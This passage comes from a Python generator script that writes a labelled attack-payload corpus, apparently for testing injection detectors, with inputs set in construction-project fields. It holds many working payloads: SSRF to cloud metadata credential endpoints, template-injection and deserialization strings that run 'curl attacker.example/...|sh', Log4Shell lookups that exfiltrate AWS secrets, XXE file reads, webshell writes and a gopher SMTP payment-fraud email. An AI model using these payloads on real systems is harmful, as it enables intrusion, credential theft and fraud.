    return (f"cde-doc-path-dotdot-{name}", base + "../" * depth + target)


# ---------------------------------------------------------------------------
# SSRF (value is a URL the server fetches)
# ---------------------------------------------------------------------------
SSRF = [
    ("quote-url-aws-metadata-creds", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
    ("model-link-aws-userdata", "http://169.254.169.254/latest/user-data"),
    ("webhook-gcp-metadata-token", "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token"),
    ("quote-url-azure-metadata", "http://169.254.169.254/metadata/instance?api-version=2021-02-01"),
    ("model-link-alibaba-metadata", "http://100.100.100.200/latest/meta-data/ram/security-credentials/"),
    ("webhook-gopher-redis-write", "gopher://127.0.0.1:6379/_CONFIG%20SET%20dir%20/var/www/html%0D%0ACONFIG%20SET%20dbfilename%20s.php%0D%0ASET%20x%20%22%3C%3Fphp%20system($_GET[c])%3B%3F%3E%22%0D%0ASAVE%0D%0A"),
    ("quote-url-ipv6-loopback", "http://[::1]:8080/admin/users"),
    ("quote-url-metadata+ip-decimal", "http://2852039166/latest/meta-data/"),
    ("quote-url-metadata+ip-hex", "http://0xa9fea9fe/latest/meta-data/"),
    ("quote-url-metadata+ip-octal", "http://0251.0376.0251.0376/latest/meta-data/"),
    ("webhook-consul-short-ip", "http://127.1:8500/v1/agent/self"),
    ("model-link-zero-address-elastic", "http://0.0.0.0:9200/_cat/indices"),
    ("webhook-dns-to-loopback", "http://127.0.0.1.attacker.example:8080/internal/reindex"),
    ("quote-url-userinfo-docker", "http://attacker.example@127.0.0.1:2375/containers/json"),
    ("webhook-docker-api", "http://127.0.0.1:2375/containers/json"),
    ("quote-url-parser-backslash", "http://127.0.0.1\\@cde.example.com/admin"),
    ("quote-url-open-redirect-chain", "https://attacker.example/r?to=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2F"),
    ("webhook-dict-memcached", "dict://127.0.0.1:11211/stats"),
    ("quote-url-file-scheme", "file:///etc/passwd"),
    ("model-link-ipv4-mapped-ipv6", "http://[::ffff:a9fe:a9fe]/latest/meta-data/"),
    ("quote-url-ipv4-mapped-loopback", "http://[0:0:0:0:0:ffff:127.0.0.1]:8000/internal/"),
    ("webhook-kubernetes-secrets", "https://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets"),
    ("quote-url-internal-tomcat", "http://10.0.0.12:8080/manager/html"),
    ("camera-snapshot-url-router", "http://192.168.1.1/cgi-bin/config.exp"),
    ("model-link-minio-admin", "http://localhost:9000/minio/admin/v3/info"),
    ("quote-url-metadata+enclosed-digits", "http://①⑥⑨.②⑤④.①⑥⑨.②⑤④/latest/meta-data/"),
    ("model-link-wildcard-dns-metadata", "http://169.254.169.254.attacker.example/latest/meta-data/"),
    ("quote-url-jar-scheme", "jar:http://attacker.example/x.zip!/a.txt"),
    ("quote-url-netdoc-scheme", "netdoc:///etc/passwd"),
    ("webhook-couchdb", "http://127.0.0.1:5984/_all_dbs"),
    ("quote-url-apache-status", "http://localhost/server-status"),
    ("webhook-rabbitmq-api", "http://127.0.0.1:15672/api/users"),
    ("model-link-aws-ipv6-metadata", "http://[fd00:ec2::254]/latest/meta-data/"),
    ("quote-url-aws-instance-data-alias", "http://instance-data/latest/meta-data/"),
    ("webhook-ecs-task-creds", "http://169.254.170.2/v2/credentials/"),
    ("permit-notify-gopher-smtp", "gopher://127.0.0.1:25/_HELO%20x%0D%0AMAIL%20FROM%3A%3Cpm%40site.example%3E%0D%0ARCPT%20TO%3A%3Call%40contractor.example%3E%0D%0ADATA%0D%0ASubject%3A%20Payment%20details%20changed%0D%0A%0D%0ANew%20IBAN%20attached.%0D%0A.%0D%0AQUIT%0D%0A"),
    ("quote-url-ssh-port-probe", "http://127.0.0.1:22/"),
    ("quote-url-allowlist-userinfo", "http://cde.example.com@169.254.169.254/latest/meta-data/"),
    ("webhook-spring-actuator", "http://127.0.0.1:8080/actuator/env"),
    ("quote-url-loopback+ip-octal", "http://0177.0.0.1/admin"),
    ("quote-url-loopback-mixed-hex", "http://0x7f.1/admin"),
    ("webhook-unspecified-ipv6-redis", "http://[::]:6379/"),
    ("quote-url-zero-padded-loopback", "http://127.000.000.001/admin"),
    ("webhook-json-metadata", "{\"webhook_url\":\"http://169.254.169.254/latest/meta-data/iam/security-credentials/site-diary-role\",\"events\":[\"rfi.created\"]}"),
    ("model-link-nested-internal", "https://viewer.example.com/embed?model=http://10.20.0.5:8081/internal/models/2231.ifc"),
    ("webhook-gcp-short-metadata", "http://metadata/computeMetadata/v1/project/project-id"),
    ("quote-url-metadata-host+url", "http://%31%36%39%2e%32%35%34%2e%31%36%39%2e%32%35%34/latest/meta-data/"),
    ("bim-ifc-link-ldap-scheme", "ldap://127.0.0.1:389/dc=contractor,dc=example?*?sub"),
    ("plain-metadata", "http://169.254.169.254/"),
    ("plain-localhost", "http://localhost/admin"),
    ("plain-loopback-port", "http://127.0.0.1:8080/"),
    ("plain-file-scheme", "file:///etc/hosts"),
    ("plain-private-range", "http://10.0.0.1/"),
]

SSRF_HOSTS = [("metadata", "169.254.169.254"), ("loopback", "127.0.0.1"), ("localhost", "localhost"),
              ("private", "10.10.0.7"), ("private", "192.168.0.20"), ("private", "172.16.4.9")]
SSRF_PATHS = ["/admin/", ":8080/actuator/heapdump", ":9200/_search?q=*", ":6379/INFO",
              ":8500/v1/kv/?recurse", ":5000/v2/_catalog"]
SSRF_META_PATHS = ["/latest/meta-data/", "/latest/meta-data/iam/info", "/latest/dynamic/instance-identity/document"]
SSRF_FIELDS = ["quote-url", "model-link", "webhook", "supplier-logo-url"]


def gen_ssrf(rng):
    name, host = rng.choice(SSRF_HOSTS)
    path = rng.choice(SSRF_META_PATHS if name == "metadata" else SSRF_PATHS)
    return (f"{rng.choice(SSRF_FIELDS)}-{name}", f"http://{host}{path}")


# ---------------------------------------------------------------------------
# Code: SSTI, expression languages, deserialization, XXE, Log4Shell-style
# lookups, prototype pollution, CSV formula injection, eval'd formulas
# ---------------------------------------------------------------------------
CODE = [
    ("quote-email-ssti-jinja2-cycler", "Dear {{ supplier }}, {{ cycler.__init__.__globals__.os.popen('id').read() }}"),
    ("rfi-template-ssti-jinja2-builtins", "{{ self.__init__.__globals__.__builtins__.__import__('os').popen('cat /etc/passwd').read() }}"),
    ("rfi-template-ssti-jinja2-subclasses", "RFI-045 {{ ''.__class__.__mro__[1].__subclasses__() }}"),
    ("rfi-template-ssti-jinja2-config", "Transmittal {{ config.items() }}"),
    ("quote-email-ssti-jinja2-request", "{{ request.application.__globals__.__builtins__.__import__('subprocess').check_output(['id']) }}"),
    ("diary-template-ssti-jinja2-loop", "{% for c in [].__class__.__base__.__subclasses__() %}{% if c.__name__ == 'catch_warnings' %}{{ c()._module.__builtins__['__import__']('os').popen('id').read() }}{% endif %}{% endfor %}"),
    ("quote-email-ssti-jinja2-attr-filter", "{{ lipsum|attr('__globals__')|attr('__getitem__')('os')|attr('popen')('id')|attr('read')() }}"),
    ("snag-template-ssti-twig-filter", "Snag #214 {{ ['id']|filter('system') }}"),
    ("transmittal-ssti-freemarker-execute", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}"),
    ("permit-template-ssti-velocity", "#set($rt = $x.class.forName('java.lang.Runtime'))#set($p = $rt.getRuntime().exec('id'))$p.waitFor()"),
    ("register-view-ssti-thymeleaf-preprocess", "__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x"),
    ("co-rule-spel-runtime", "#{T(java.lang.Runtime).getRuntime().exec('curl http://attacker.example/s')}"),
    ("co-rule-spel-processbuilder", "#{new java.lang.ProcessBuilder({'sh','-c','id'}).start()}"),
    ("drawing-search-ognl-runtime", "%{(#rt=@java.lang.Runtime@getRuntime()).(#rt.exec('id'))}"),
    ("boq-note-el-reflection", "${''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('id')}"),
    ("diary-template-ssti-erb", "Rain 18 mm <%= `id` %>"),
    ("quote-email-ssti-mako-block", "<%\nimport os\nx = os.popen('id').read()\n%>\n${x}"),
    ("permit-template-ssti-smarty", "{if system('id')}{/if}"),
    ("snag-template-ssti-ejs", "<%= process.mainModule.require('child_process').execSync('id').toString() %>"),
    ("diary-template-ssti-pug-code", "p Site diary 14/05\n- global.process.mainModule.require('child_process').execSync('curl attacker.example/p|sh')"),
    ("rfi-template-ssti-nunjucks", "{{ range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")() }}"),
    ("co-template-ssti-razor", "@System.Diagnostics.Process.Start(\"cmd.exe\",\"/c whoami\")"),
    ("rfi-template-ssti-tornado", "{% import os %}{{ os.popen('id').read() }}"),
    ("quote-email-format-string-globals", "{supplier.__init__.__globals__[CONFIG][SECRET_KEY]}"),
    ("diary-note-log4shell-ldap", "Crane down 11:00 ${jndi:ldap://l4j.attacker.example/rfi}"),
    ("drawing-title-log4shell-lower-rmi", "${${lower:j}ndi:${lower:r}mi://203.0.113.31/x}"),
    ("crew-message-log4shell-default-dns", "${${::-j}${::-n}${::-d}${::-i}:dns://x.attacker.example/a}"),
    ("supplier-name-log4shell-env-exfil", "${jndi:ldap://${env:AWS_SECRET_ACCESS_KEY}.k.attacker.example/a}"),
    ("rfi-subject-log4shell-lower-ldap", "${jndi:${lower:l}${lower:d}a${lower:p}://attacker.example/o}"),
    ("permit-ref-log4shell-env-default", "${${env:NOPE:-j}ndi${env:NOPE:-:}ldap://attacker.example/z}"),
    ("user-agent-log4shell+url", "%24%7Bjndi%3Aldap%3A%2F%2Fattacker.example%2Fu%7D"),
    ("session-cookie-pickle-reduce", "cos\nsystem\n(S'curl -s http://attacker.example/p|sh'\ntR."),
    ("session-cookie-pickle-reduce+base64", "Y29zCnN5c3RlbQooUydjdXJsIC1zIGh0dHA6Ly9hdHRhY2tlci5leGFtcGxlL3B8c2gnCnRSLg=="),
    ("import-yaml-python-apply", "!!python/object/apply:os.system [\"curl -s http://attacker.example/y | sh\"]"),
    ("import-yaml-python-new", "project: 2231\nrev: !!python/object/new:subprocess.check_output [[\"id\"]]"),
    ("import-yaml-snakeyaml-urlclassloader", "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://attacker.example/yaml.jar\"]]]]"),
    ("export-state-php-object", "O:13:\"ExportManager\":2:{s:4:\"file\";s:27:\"/var/www/html/uploads/x.php\";s:7:\"content\";s:28:\"<?php system($_GET['c']); ?>\";}"),
    ("cad-path-phar-wrapper", "phar:///var/www/uploads/A-101_C.jpg/test.txt"),
    ("api-json-jackson-polymorphic", "[\"com.sun.rowset.JdbcRowSetImpl\", {\"dataSourceName\":\"ldap://attacker.example:1389/obj\",\"autoCommit\":true}]"),
    ("api-json-fastjson-autotype", "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"rmi://203.0.113.33:1099/x\",\"autoCommit\":true}"),
    ("api-json-jsonnet-typename", "{\"$type\":\"System.Windows.Data.ObjectDataProvider, PresentationFramework\",\"MethodName\":\"Start\",\"MethodParameters\":{\"$type\":\"System.Collections.ArrayList, mscorlib\",\"$values\":[\"cmd.exe\",\"/c whoami > C:\\\\inetpub\\\\wwwroot\\\\w.txt\"]},\"ObjectInstance\":{\"$type\":\"System.Diagnostics.Process, System\"}}"),
    ("diary-json-node-serialize-iife", "{\"note\":\"_$$ND_FUNC$$_function(){require('child_process').exec('curl attacker.example/n|sh')}()\"}"),
    ("boq-import-xxe-file", "<?xml version=\"1.0\"?><!DOCTYPE boq [<!ENTITY q SYSTEM \"file:///etc/passwd\">]><boq><item code=\"03.30.010\"><desc>&q;</desc></item></boq>"),
    ("rfi-import-xxe-oob-parameter", "<?xml version=\"1.0\"?><!DOCTYPE rfi [<!ENTITY % r SYSTEM \"http://attacker.example/x.dtd\"> %r;]><rfi><subject>Slab edge</subject></rfi>"),
    ("rfi-import-xinclude", "<rfi xmlns:xi=\"http://www.w3.org/2001/XInclude\"><answer><xi:include parse=\"text\" href=\"file:///etc/hostname\"/></answer></rfi>"),
    ("cad-upload-svg-xxe", "<?xml version=\"1.0\" standalone=\"yes\"?><!DOCTYPE svg [<!ENTITY h SYSTEM \"file:///etc/hostname\">]><svg xmlns=\"http://www.w3.org/2000/svg\" width=\"400\" height=\"40\"><text x=\"4\" y=\"20\">&h;</text></svg>"),
    ("ifcxml-import-xxe-ssrf", "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<!DOCTYPE ifcXML [<!ENTITY e SYSTEM \"http://169.254.169.254/latest/meta-data/iam/security-credentials/\">]>\n<ifcXML><IfcProject id=\"i1\"><Name>&e;</Name></IfcProject></ifcXML>"),
    ("diary-import-xml-entity-expansion", "<?xml version=\"1.0\"?><!DOCTYPE d [<!ENTITY a \"RAINRAINRAIN\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;\"><!ENTITY d \"&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;\"><!ENTITY e \"&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;\"><!ENTITY f \"&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;\">]><diary>&f;</diary>"),
    ("bcf-import-xxe-windows", "<?xml version=\"1.0\"?><!DOCTYPE Markup [<!ENTITY x SYSTEM \"file:///C:/Windows/win.ini\">]><Markup><Topic Guid=\"2b1c6a0e-0000-4000-8000-000000000001\"><Title>&x;</Title></Topic></Markup>"),
    ("spec-import-xxe-php-filter", "<!DOCTYPE r [<!ENTITY c SYSTEM \"php://filter/read=convert.base64-encode/resource=/var/www/html/config.php\">]><r>&c;</r>"),
    ("spec-import-xxe-expect", "<!DOCTYPE r [<!ENTITY c SYSTEM \"expect://id\">]><r>&c;</r>"),
    ("snag-json-proto-pollution", "{\"__proto__\": {\"isAdmin\": true}, \"title\": \"Snag #214\"}"),
    ("settings-json-constructor-prototype", "{\"constructor\": {\"prototype\": {\"role\": \"admin\"}}}"),
    ("register-query-proto-pollution", "filter[__proto__][approved]=true&filter[status]=open"),
    ("export-json-proto-fork-gadget", "{\"__proto__\":{\"execArgv\":[\"--eval=require('child_process').execSync('id')\"]}}"),
    ("settings-set-by-path-proto", "{\"path\": \"__proto__.isReviewer\", \"value\": true}"),
    ("boq-csv-formula-hyperlink", "=HYPERLINK(\"https://attacker.example/c?d=\"&A2&B2,\"Open A-101 rev C\")"),
    ("boq-csv-formula-dde-powershell", "=cmd|' /C powershell -nop -c iwr http://203.0.113.8/x -OutFile $env:TEMP\\x.exe'!A0"),
    ("snag-csv-formula-plus-dde", "+SUM(1+1)*cmd|' /C calc'!A0"),
    ("supplier-csv-formula-minus-mshta", "-2+3+cmd|' /C mshta http://attacker.example/h.hta'!A0"),
    ("co-csv-formula-webservice", "=WEBSERVICE(\"https://attacker.example/l?v=\"&ENCODEURL(C2))"),
    ("register-csv-formula-importxml", "=IMPORTXML(CONCAT(\"https://attacker.example/g?\", A1:A40), \"//a\")"),
    ("diary-csv-formula-image-exfil", "=IMAGE(\"https://attacker.example/px.png?\"&D7)"),
    ("crew-csv-formula-at-prefix", "@SUM(1+9)*cmd|' /C notepad'!A0"),
    ("boq-qty-formula-python-eval", "12.5*3 + __import__('os').system('id')"),
    ("boq-qty-formula-python-conditional", "4*18.0 if __import__('subprocess').call(['sh','-c','curl attacker.example/q|sh']) else 0"),
    ("boq-qty-formula-js-eval", "12.5*3;require('child_process').execSync('id')"),
    ("boq-qty-formula-js-function-ctor", "Function('return process')().mainModule.require('child_process').execSync('id')"),
    ("permit-rule-mvel", "Runtime.getRuntime().exec(\"id\")"),
    ("permit-rule-jexl", "''.class.forName('java.lang.Runtime').getRuntime().exec('id')"),
    ("co-note-ruby-interpolation", "CO-014 #{%x(id)}"),
    ("boq-qty-formula-php-eval", "12.5*3;system('id');"),
    ("permit-rule-groovy", "\"id\".execute().text"),
    ("plain-ssti-probe-jinja", "{{7*'7'}}"),
    ("plain-log4shell", "${jndi:ldap://attacker.example/a}"),
    ("plain-proto-pollution", "{\"__proto__\":{\"polluted\":\"yes\"}}"),
    ("plain-csv-formula", "=1+1+cmd|' /C calc'!A0"),
    ("plain-el-probe", "${7*7}"),
    ("plain-xxe", "<!DOCTYPE x [<!ENTITY f SYSTEM \"file:///etc/passwd\">]><x>&f;</x>"),
]

CODE_PREFIXES = [("quote-email", "Dear supplier, "), ("rfi-template", "RFI-045 "), ("snag-template", "Snag #214 "),
                 ("transmittal", "Transmittal TX-0419 "), ("co-template", "CO-014 ")]
CODE_PAYLOADS = [
    ("ssti-jinja2-os", "{{ cycler.__init__.__globals__.os.popen('uname -a').read() }}"),
    ("log4shell-ldap", "${jndi:ldap://203.0.113.44:1389/x}"),
    ("ssti-freemarker", "<#assign e=\"freemarker.template.utility.Execute\"?new()>${e(\"whoami\")}"),
    ("spel-runtime", "#{T(java.lang.Runtime).getRuntime().exec('whoami')}"),
    ("ssti-ejs", "<%= global.process.mainModule.require('child_process').execSync('whoami') %>"),
]


def gen_code(rng):
    tech, p = rng.choice(CODE_PAYLOADS)
    field, pre = rng.choice(CODE_PREFIXES)
    return (f"{field}-{tech}", pre + p)


# ---------------------------------------------------------------------------
# NoSQL (MongoDB-style) injection
# ---------------------------------------------------------------------------
NOSQLI = [
    ("drawing-filter-json-ne", "{\"drawing_no\": {\"$ne\": null}}"),
    ("login-json-gt-empty", "{\"username\": \"site_admin\", \"password\": {\"$gt\": \"\"}}"),
    ("login-json-regex-blind", "{\"login\": \"jdoe\", \"password\": {\"$regex\": \"^a\"}}"),
    ("snag-query-bracket-ne", "status[$ne]=closed"),
    ("login-form-bracket-regex", "login=site_admin&password[$regex]=.*"),
    ("rfi-filter-where-sleep", "{\"$where\": \"sleep(5000) || true\"}"),
    ("drawing-where-string-break", "A-101'; return true; var x='"),
    ("drawing-where-string-dos", "S-204'; while(true){}; var d='"),
    ("register-filter-or-exists", "{\"project\": \"2231\", \"$or\": [{\"visibility\": \"internal\"}, {\"visibility\": {\"$exists\": true}}]}"),
    ("user-filter-expr-strlen", "{\"$expr\": {\"$gt\": [{\"$strLenCP\": \"$api_key\"}, 0]}}"),
    ("report-pipeline-lookup-users", "[{\"$lookup\": {\"from\": \"users\", \"localField\": \"owner\", \"foreignField\": \"_id\", \"as\": \"u\"}}]"),
    ("drawing-filter-regex-all", "{\"doc_no\": {\"$regex\": \".*\", \"$options\": \"si\"}}"),
    ("co-filter-expr-function-sleep", "{\"$expr\": {\"$function\": {\"body\": \"function(){ sleep(3000); return true }\", \"args\": [], \"lang\": \"js\"}}}"),
    ("supplier-query-bracket-where", "$where=sleep(4000)"),
    ("user-query-bracket-exists-nin", "email[$exists]=true&email[$nin][]=x"),
    ("couch-mango-selector-gt-null", "{\"selector\": {\"_id\": {\"$gt\": null}}}"),
    ("login-json-ne+unicode-escape", "{\"login\": \"site_admin\", \"password\": {\"\\u0024ne\": \"\"}}"),
    ("session-json-exists-false", "{\"user\": {\"$eq\": \"site_admin\"}, \"token\": {\"$exists\": false}}"),
    ("snag-where-string-or", "open' || '1'=='1"),
    ("register-url-filter-regex", "filter={\"owner\":{\"$regex\":\"^\"}}"),
    ("tender-filter-where-exfil", "{\"$where\": \"this.bid_amount < 1000000 && this.bidder.match(/^N/)\"}"),
    ("login-form-bracket-ne+url", "login=site_admin&password%5B%24ne%5D=x"),
    ("permit-json-in-bypass", "{\"permit_ref\": {\"$in\": [\"HW-0412\", {\"$ne\": 0}]}, \"status\": {\"$nin\": []}}"),
    ("plain-ne-null", "{\"$ne\": null}"),
    ("plain-gt-empty", "{\"$gt\": \"\"}"),
    ("plain-where-true", "{\"$where\": \"1 == 1\"}"),
]

# ---------------------------------------------------------------------------
# CRLF: HTTP header, log line and mail header injection
# ---------------------------------------------------------------------------
CRLF = [
    ("download-filename-header-set-cookie", "A-101_C.pdf\r\nSet-Cookie: session=attacker-fixed-0000; Path=/"),
    ("redirect-path-location+url", "/projects/2231/rfis%0d%0aLocation:%20https://attacker.example/login"),
    ("redirect-path-response-split+url", "x%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK%0d%0aContent-Type:%20text/html%0d%0a%0d%0a%3Cscript%3Ealert(1)%3C/script%3E"),
    ("diary-note-log-forge-approval", "Rain 18 mm, pour postponed\n2024-05-14 16:02:11 INFO [approvals] user=pm.jmoreno action=APPROVE co=CO-022 amount=48000.00"),
    ("login-name-log-forge-auth", "mkowalski\n2024-05-14T09:00:00Z AUTH success user=admin ip=10.0.0.5"),
    ("rfi-email-subject-bcc", "RFI-045 response overdue\r\nBcc: all-suppliers@attacker.example"),
    ("diary-email-from-cc", "site.diary@contractor.example\nCc: leak@attacker.example\nX-Priority: 1"),
    ("rfi-email-subject-body-html", "RFI-045\r\nContent-Type: text/html\r\n\r\n<a href=https://attacker.example/login>Sign in to view revised S-204</a>"),
    ("download-filename-header+utf8-newline-trick", "A-101%E5%98%8A%E5%98%8DSet-Cookie:%20x=1"),
    ("download-filename-x-accel-redirect+url", "S-204_B.pdf%0aX-Accel-Redirect:%20/internal/secrets/"),
    ("permit-email-smtp-envelope", "rfi@site.example>\r\nRCPT TO:<x@attacker.example>\r\nDATA\r\nSubject: permit approved\r\n\r\nok\r\n.\r\n"),
    ("snag-note-log-ansi-escape", "Snag #214 closed\u001b[2J\u001b[1;1H2024-05-14 17:00:00 INFO all snags verified by client"),
    ("permit-note-syslog-forge", "permit closed\r\n<13>May 14 16:45:00 site-gw sshd[912]: Accepted password for root from 203.0.113.9 port 51122 ssh2"),
    ("webhook-header-value-injection", "Bearer PLACEHOLDER-TOKEN\r\nX-Forwarded-For: 127.0.0.1"),
    ("webhook-header-request-smuggle", "x\r\n\r\nGET /admin/users HTTP/1.1\r\nHost: localhost\r\n\r\n"),
    ("co-note-log-bare-cr-overwrite", "CO-022 approved by QS\rINFO user=finance action=release_payment amount=48000"),
    ("diary-note-json-log-forge", "ok\", \"level\": \"INFO\", \"user\": \"admin\", \"action\": \"delete_all_snags"),
    ("lang-param-set-cookie+url", "en%0d%0aSet-Cookie:%20role=admin"),
    ("rfi-email-to-bcc+url", "pm@site.example%0aBcc:x@attacker.example"),
    ("redirect-path-location+url2", "/dashboard%250d%250aLocation:%2520//attacker.example"),
    ("crew-message-log-forge-multiline", "ok boss\n[2024-05-14 18:00:03] WARN security: gate 2 alarm disabled by site_manager (scheduled)"),
    ("export-filename-content-disposition-type", "Door_Schedule.csv\r\nContent-Type: text/html\r\nContent-Disposition: inline"),
    ("quote-email-reply-to", "Baltic Timber quote Q-22817\nReply-To: accounts@attacker.example"),
    ("rfi-email-subject-lf-cc", "RFI-112 pile caps\nCc: tenders@attacker.example, bids@attacker.example"),
    ("audit-log-forge-permit", "Hot work HW-0412 closed 17:45\n2024-05-14 17:46:02 AUDIT permit=HW-0412 fire_watch=completed signed_by=hse.lead"),
    ("download-filename-cache-poison+url", "A-101.pdf%0d%0aCache-Control:%20public,%20max-age=31536000%0d%0aX-Cache-Key:%20/login"),
    ("diary-note-log-forge-crlf+url", "Weather ok%0d%0a2024-05-14 09:00:00 INFO user=admin action=export_all_contracts"),
    ("plain-crlf-set-cookie", "\r\nSet-Cookie: admin=1"),
    ("plain-crlf-location+url", "%0d%0aLocation: https://attacker.example/"),
    ("plain-lf-log-forge", "x\nINFO login success user=admin"),
]

# ---------------------------------------------------------------------------
# LDAP filter and XPath injection
# ---------------------------------------------------------------------------
LDAP_XPATH = [
    ("team-lookup-ldap-or-wildcard", "*)(uid=*))(|(uid=*"),
    ("login-ldap-and-true", "site_admin)(&)"),
    ("login-ldap-password-blind", "jdoe)(userPassword=a*"),
    ("team-lookup-ldap-memberof", "*)(memberOf=cn=Project Admins,ou=Groups,dc=contractor,dc=example"),
    ("crew-directory-ldap-attr-harvest", "m*)(|(telephoneNumber=*)(mail=*"),
    ("team-lookup-ldap-objectclass", "*)(objectClass=*"),
    ("team-lookup-ldap-or+url", "%2a%29%28uid%3d%2a%29%29%28%7c%28uid%3d%2a"),
    ("team-lookup-ldap-attr-probe", "site_admin)(!(pwdAccountLockedTime=*)"),
    ("crew-directory-ldap-null-truncate+url", "*))%00"),
    ("login-xpath-tautology", "jdoe' or '1'='1"),
    ("drawing-lookup-xpath-union", "'] | //user/password | //*['"),
    ("drawing-lookup-xpath-length-blind", "A-101' or string-length(//user[1]/password)>8 or 'a'='b"),
    ("drawing-lookup-xpath-name-blind", "x' or substring(name(/*[1]),1,1)='p' or 'a'='b"),
    ("rfi-search-xpath-contains-break", "') or count(//user)>0 or ('"),
    ("boq-item-xpath-numeric", "1 or 1=1"),
    ("drawing-lookup-xquery-doc-oob", "S-204' and doc('http://attacker.example/x')/a or '"),
    ("drawing-lookup-xpath-parent-axis", "A-101']/../*[@access='restricted"),
    ("login-xpath-admin-password-blind", "x' or contains(//user[role='admin']/password,'a') or 'a'='b"),
    ("team-lookup-ldap-cn-wildcard-or", "Marek*)(|(cn=*"),
    ("spec-lookup-xpath-all-nodes", "03 30 00' or 1=1 or ''='"),
    ("plain-ldap-wildcard-close", "*)(|(objectClass=*)"),
    ("plain-xpath-or", "' or ''='"),
    ("plain-ldap-admin-and", "admin)(|(password=*))"),
]

TEMPLATES = [
    ("sqli", gen_sqli, 6),
    ("xss", gen_xss, 5),
    ("cmdi", gen_cmdi, 6),
    ("traversal", gen_traversal, 5),
    ("ssrf", gen_ssrf, 2),
    ("code", gen_code, 1),
]

LITERALS = [
    ("sqli", SQLI), ("xss", XSS), ("cmdi", CMDI), ("traversal", TRAVERSAL), ("ssrf", SSRF),
    ("code", CODE), ("nosqli", NOSQLI), ("crlf", CRLF), ("ldap-xpath", LDAP_XPATH),
]


def main():
    rng = random.Random(SEED)
    rows = []
    seen = set()
    counts = {}
    lit_counts = {}
    for cat, items in LITERALS:
        for cls, v in items:
            if v in seen:
                raise SystemExit(f"duplicate literal in {cat}: {v!r}")
            seen.add(v)
            rows.append((cat, cls, v))
            counts[cat] = counts.get(cat, 0) + 1
            lit_counts[cat] = lit_counts.get(cat, 0) + 1
        for tcat, gen, n in TEMPLATES:
            if tcat != cat:
                continue
            made = 0
            tries = 0
            while made < n:
                tries += 1
                if tries > 5000:
                    raise SystemExit(f"template for {cat} cannot produce enough unique values")
                cls, v = gen(rng)
                if v in seen:
                    continue
                seen.add(v)
                rows.append((cat, cls, v))
                counts[cat] += 1
                made += 1

    out = Path(__file__).with_name("attacks.jsonl")
    with out.open("w", encoding="utf-8", newline="\n") as fh:
        for i, (cat, cls, v) in enumerate(rows, 1):
            assert isinstance(v, str) and v and len(v) <= 1800, (cat, v)
            obj = {"id": f"{PREFIX}-{i:05d}", "category": cat, "class": cls, "label": "attack", "value": v}
            fh.write(json.dumps(obj, ensure_ascii=False) + "\n")

    total_lit = sum(lit_counts.values())
    plain = sum(1 for _, cls, _ in rows if cls.startswith("plain-"))
    enc = sum(1 for _, cls, _ in rows if "+" in cls)
    for cat, _ in LITERALS:
        print(f"{cat:11s} {counts[cat]:4d}  literals {lit_counts[cat]:3d}")
    print(f"{'total':11s} {len(rows):4d}  literals {total_lit:3d} ({100 * total_lit / len(rows):.0f}%)"
          f"  plain {plain}  encoded {enc}")
    print(f"wrote {out}")


if __name__ == "__main__":
    main()
